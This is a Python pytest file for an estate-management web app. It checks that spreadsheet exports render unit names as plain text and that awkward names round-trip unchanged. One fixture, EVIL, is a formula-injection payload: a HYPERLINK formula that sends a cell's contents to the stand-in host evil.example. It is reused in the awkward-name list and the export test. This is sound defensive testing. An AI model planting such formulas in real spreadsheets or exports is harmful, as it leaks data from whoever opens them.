"""Estate exports cannot be turned against their readers: a name is exported as the text it is
(never a live formula), any group name makes a sheet, and the estate file imports back
unchanged whatever its names hold."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from recovery.core.constants import Role
from recovery.core.scope import TEST_DATA
from recovery.core.xlsx import workbook_bytes
from recovery.estate.actions import do_import_estate
from recovery.estate.importer import export_sheets, read_estate_workbook
from recovery.estate.models import OrganisationUnit
from recovery.estate.tests.test_import import make_workbook

EVIL = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'

# Every class of awkward text a name may hold (control characters, line breaks included, and
# bidi and zero-width characters are refused in names by the import engine, so they are not
# names a round trip can carry).
AWKWARD_NAMES = {
    "formula": "=1+1",
    "link formula": EVIL,
    "plus": "+44 Tarnwick",
    "minus": "-Felkby-",
    "at": "@Ostmere",
    "slash and ampersand": "Beds/Cambs & Norfolk",
    "sheet title characters": "[North]: what? *all* \\ /",
    "markup and quotes": "<b>North</b> & 'South' \"PDU\"",
    "apostrophe first": "'Quarrendale",
    "excel escape": "_x0041_ North",
    "welsh, cjk and emoji": "Carchar Ŵrecsam 東京 🚀",
    "number-like": "00123",
    "exponent-like": "1e5",
    "date-like": "2020-02-30",
    "boolean-like": "TRUE",
    "longest": "N" * 199 + "=",
}


def names() -> dict[str, str]:
    return dict(OrganisationUnit.objects.values_list("code", "name"))


@pytest.mark.django_db
@pytest.mark.parametrize("name", AWKWARD_NAMES.values(), ids=AWKWARD_NAMES.keys())
def test_the_estate_export_imports_back_unchanged_whatever_the_names_hold(name):
    do_import_estate(make_workbook(), acting_user=TEST_DATA)
    # One unit of every kind takes the awkward name.
    OrganisationUnit.objects.filter(code__in=["GA", "QRA", "RA", "RA-P1", "RA-P1-O1"]).update(
        name=name
    )
    before = names()

    data = workbook_bytes(export_sheets())
    read_back = {unit.code: unit.name for unit in read_estate_workbook(data).units}
    summary = do_import_estate(data, acting_user=TEST_DATA)

    assert read_back["QRA"] == name and read_back["RA-P1-O1"] == name
    assert not summary.changed_anything
    assert names() == before


def _cells_and_xml(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    return workbook, xml


def test_a_unit_renamed_to_a_formula_is_exported_as_text(client, small_estate, person_with_role):
    OrganisationUnit.objects.filter(pk=small_estate.establishment_1.pk).update(name=EVIL)
    client.force_login(person_with_role(Role.PGD))

    response = client.get("/estate/groups/GRP1/?format=xlsx")

    workbook, xml = _cells_and_xml(response.content)
    cell = next(c for row in workbook.active.iter_rows() for c in row if c.value == EVIL)
    assert cell.data_type == "s"
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"><is><t>=HYPERLINK("https://evil.example/?leak="&amp;B2,"Open")</t>' in xml


def test_a_group_named_with_a_slash_exports_its_progress(client, small_estate, person_with_role):
    OrganisationUnit.objects.filter(pk=small_estate.group_1.pk).update(name="Beds/Cambs & Norfolk")
    client.force_login(person_with_role(Role.PGD))

    response = client.get("/plans/groups/GRP1/?format=xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Beds-Cambs & Norfolk"]


def test_a_name_holding_a_vertical_tab_still_exports(client, small_estate, person_with_role):
    # What Word puts in for a manual line break; an old row may hold it.
    OrganisationUnit.objects.filter(pk=small_estate.establishment_1.pk).update(
        name="HMP Ash\x0bgrove"
    )
    client.force_login(person_with_role(Role.CENTRAL_PANEL))

    response = client.get("/estate/establishments/?format=xlsx")

    assert response.status_code == 200
    names_exported = [r[1] for r in load_workbook(io.BytesIO(response.content)).active.values]
    assert "HMP Ash\N{REPLACEMENT CHARACTER}grove" in names_exported
